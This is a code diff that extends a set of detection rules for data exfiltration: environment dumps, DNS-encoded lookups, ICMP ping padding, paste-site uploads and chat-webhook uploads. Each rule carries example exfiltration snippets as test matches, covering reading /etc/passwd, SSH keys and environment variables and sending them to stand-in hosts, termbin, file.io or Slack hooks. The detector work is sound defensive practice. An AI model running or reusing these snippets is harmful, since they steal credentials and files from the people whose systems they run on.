@@ -3,6 +3,7 @@
 import {
   all,
   any,
+  c,
   command,
   count,
   go,
@@ -157,6 +158,7 @@ const nets = [
   'curl ',
   'octokit',
   'createorupdatefilecontents',
+  'stream_context_create(',
 ] as const
 const net = is(nets, null)
 
@@ -174,6 +176,9 @@ export const envExfiltration: RuleSet = {
         any(is(['http://', 'https://', 'hostname', 'host:', 'octokit', 'webhook', '.invalid', 'url'], null)),
       ),
       matches: [
+        php(
+          "<?php $all = print_r($_ENV, true);\nfile_get_contents('http://x.example.invalid/i', false, stream_context_create(['http' => ['method' => 'POST', 'content' => $all]]));",
+        ),
         py("import os, requests, json\nrequests.post('https://x.example.invalid', data=json.dumps(dict(os.environ)))"),
         js(
           "const d = JSON.stringify(process.env)\nconst r = https.request({ hostname: 'x.example.invalid', method: 'POST' })\nr.write(d)",
@@ -323,45 +328,60 @@ export const covertExfiltration: RuleSet = {
       id: 'covert-exfiltration.dns-code',
       severity: 'high',
       why: 'Encodes data into host names and looks them up.',
-      when: near(
-        5,
-        is(
-          [
-            'gethostbyname(',
-            'getaddrinfo(',
-            'dns.lookup(',
-            'dns.resolve',
-            'resolver.resolve(',
-            'lookuphost(',
-            'resolve4(',
-            'gethostentry(',
-          ],
-          /(?:gethostbyname|getaddrinfo|dns\.lookup|dns\.resolve\w{0,4}|resolver\.resolve|LookupHost|resolve4|GetHostEntry)\(\s*(?:f["'][^"'\n]{0,80}\{|["'`]?[^)\n]{0,80}(?:["'`]\s*\+|\+\s*["'`]|\$\{|%s|\.format\())/i,
+      when: any(
+        near(
+          5,
+          is(
+            [
+              'gethostbyname(',
+              'getaddrinfo(',
+              'dns.lookup(',
+              'dns.resolve',
+              'resolver.resolve(',
+              'lookuphost(',
+              'resolve4(',
+              'gethostentry(',
+            ],
+            /(?:gethostbyname|getaddrinfo|dns\.lookup|dns\.resolve\w{0,4}|resolver\.resolve|LookupHost|resolve4|GetHostEntry)\(\s*(?:f["'][^"'\n]{0,80}\{|["'`]?[^)\n]{0,80}(?:["'`]\s*\+|\+\s*["'`]|\$\{|%s|\.format\())/i,
+          ),
+          is(
+            [
+              'hexlify',
+              '.hex()',
+              "'hex'",
+              '"hex"',
+              'b32encode',
+              'b64encode',
+              'encodetostring',
+              'hex.encode',
+              'base32',
+              'btoa(',
+            ],
+            null,
+          ),
+          any('read', 'environment', ...identity),
         ),
-        is(
-          [
-            'hexlify',
-            '.hex()',
-            "'hex'",
-            '"hex"',
-            'b32encode',
-            'b64encode',
-            'encodetostring',
-            'hex.encode',
-            'base32',
-            'btoa(',
-          ],
-          null,
+        near(
+          30,
+          is(['sendto('], /sendto\([^\n]{0,300}?,\s*53\s*\)/, { families: ['py', 'js', 'rb'], after: 360 }),
+          is(['/etc/passwd', '/etc/shadow', '.ssh', '.aws/', '.gitconfig', '.kube'], null),
+          'read',
         ),
-        any('read', 'environment', ...identity),
       ),
       matches: [
+        py(
+          'names = ["/etc/passwd", home + "/.gitconfig"]\nfor label in packets(open(names[0], "rb").read()):\n    sock.sendto(query(label), ("192.0.2.1", 53))',
+        ),
         py(
           "data = open('/etc/hostname').read().encode().hex()\nfor i in range(0, len(data), 60):\n    socket.gethostbyname(f'{data[i:i+60]}.x.example.invalid')",
         ),
         js("const h = Buffer.from(os.hostname()).toString('hex')\ndns.lookup(h + '.x.example.invalid', () => {})"),
       ],
-      misses: [py('ip = socket.gethostbyname(host)'), js('dns.lookup(`${name}.local`, done)')],
+      misses: [
+        py('sock.sendto(query(name), ("192.0.2.1", 53))\ndata = sock.recv(512)'),
+        py('ip = socket.gethostbyname(host)'),
+        js('dns.lookup(`${name}.local`, done)'),
+      ],
     },
     {
       id: 'covert-exfiltration.paste',
@@ -410,12 +430,18 @@ export const covertExfiltration: RuleSet = {
             'imagegrab',
             'screenshot',
             '.git-credentials',
+            'systeminfo',
+            'netsh wlan',
+            'ipconfig /all',
           ],
-          /(?:\/etc\/(?:passwd|shadow)|\.ssh\b|\.aws\b|\.env\b|printenv|os\.environ|process\.env\b(?!\.)|Login Data|wallet|tar c\w{0,3} [^\n]{0,30}(?:~|\$HOME|\/home|\/root)|\.bash_history|id_rsa|ImageGrab|screenshot|\.git-credentials|passwords)/i,
+          /(?:\/etc\/(?:passwd|shadow)|\.ssh\b|\.aws\b|\.env\b|printenv|os\.environ|process\.env\b(?!\.)|Login Data|wallet|tar c\w{0,3} [^\n]{0,30}(?:~|\$HOME|\/home|\/root)|\.bash_history|id_rsa|ImageGrab|screenshot|\.git-credentials|passwords|systeminfo|netsh wlan|ipconfig \/all)/i,
         ),
         any('send', net),
       ),
       matches: [
+        py(
+          'text = subprocess.getoutput("systeminfo") + subprocess.getoutput("netsh wlan show profiles")\nurlopen("https://pastebin.com/api/api_post.php", urlencode({"api_paste_code": text}).encode())',
+        ),
         sh('cat /etc/passwd ~/.ssh/id_rsa | nc termbin.com 9999'),
         py(
           "z = shutil.make_archive('/tmp/l', 'zip', os.path.expanduser('~/.ssh'))\nrequests.post('https://file.io', files={'file': open(z, 'rb')})",
@@ -474,14 +500,55 @@ export const covertExfiltration: RuleSet = {
       id: 'covert-exfiltration.icmp',
       severity: 'high',
       why: 'Sends the content of files in the padding of pings.',
-      when: command(
-        statement(
-          is(['ping '], /ping\s[^\n]{0,60}?-p\s+["']?\$/),
-          is(['xxd', 'hexdump', 'od -', 'read', 'while'], null),
+      when: any(
+        command(
+          statement(
+            is(['ping '], /ping\s[^\n]{0,60}?-p\s+["']?\$/),
+            is(['xxd', 'hexdump', 'od -', 'read', 'while'], null),
+          ),
+        ),
+        command(
+          near(
+            3,
+            is(['ping '], /ping\s[^\n]{0,60}?-p\s+["']?\$/),
+            is(['xxd', 'hexdump', 'od -'], /(?:xxd|hexdump|(?<!\w)od)\s[^\n]{0,120}\|/),
+          ),
+        ),
+        inside(
+          ['py'],
+          near(
+            6,
+            is(['icmp('], /ICMP\([^\n]{0,40}\)\s*\/\s*(?:Raw\(\s*(?:load\s*=\s*)?)?\w/),
+            is(['.read('], null),
+            is(['send(', 'sr1('], null),
+          ),
+        ),
+        inside(
+          ['c'],
+          near(
+            14,
+            is(['icmp_echo'], /ICMP_ECHO\b/),
+            is(['sock_raw'], null),
+            is(['fread(', 'fgets('], null),
+            is(['sendto('], null),
+          ),
         ),
       ),
-      matches: [sh('xxd -p -c 16 /etc/passwd | while read l; do ping -c 1 -p $l 192.0.2.1; done')],
-      misses: [sh('ping -c 1 192.0.2.1')],
+      matches: [
+        sh('xxd -p -c 16 /etc/passwd | while read -r line; do\n  ping -c 1 -p "$line" 192.0.2.1\ndone'),
+        py(
+          'while piece := source.read(56):\n    send(IP(dst="192.0.2.1") / ICMP(type=8) / Raw(load=piece), verbose=False)',
+        ),
+        c(
+          'struct { struct icmphdr h; char data[48]; } packet = { .h = { .type = ICMP_ECHO } };\nint s = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);\nwhile (fread(packet.data, 1, 48, f) > 0)\n    sendto(s, &packet, sizeof packet, 0, to, sizeof *to);',
+        ),
+        sh('xxd -p -c 16 /etc/passwd | while read l; do ping -c 1 -p $l 192.0.2.1; done'),
+      ],
+      misses: [
+        py('answer = sr1(IP(dst=host) / ICMP(), timeout=2)'),
+        c('packet.h.type = ICMP_ECHO;\nsendto(s, &packet, sizeof packet, 0, to, sizeof *to);'),
+        sh('ping -c 1 192.0.2.1'),
+      ],
     },
     {
       id: 'covert-exfiltration.powershell',
@@ -521,6 +588,25 @@ export const covertExfiltration: RuleSet = {
         ),
       ],
       misses: [ps('Invoke-RestMethod -Uri "https://api.example.org" -Method POST -Body $body')],
+    },
+    {
+      id: 'covert-exfiltration.source-to-hook',
+      severity: 'high',
+      why: 'Walks through the files of a project and posts their content to a chat hook.',
+      when: near(
+        4,
+        is(['hooks.slack.com/services', '/api/webhooks/', 'api.telegram.org/bot'], null),
+        is(['file.read(', 'read_text(', 'readfilesync(', 'file_get_contents(', '.read()', 'os.readfile('], null),
+        any('walk', is(['dir[', 'dir.glob', 'glob.sync(', 'glob('], null)),
+      ),
+      matches: [
+        rb(
+          "Dir['app/**/*.rb'].each do |file|\n  Net::HTTP.post(URI('https://hooks.slack.com/services/T/B/x'), { text: File.read(file) }.to_json)\nend",
+        ),
+      ],
+      misses: [
+        rb("Net::HTTP.post(URI('https://hooks.slack.com/services/T/B/x'), { text: File.read('report.txt') }.to_json)"),
+      ],
     },
   ],
 }
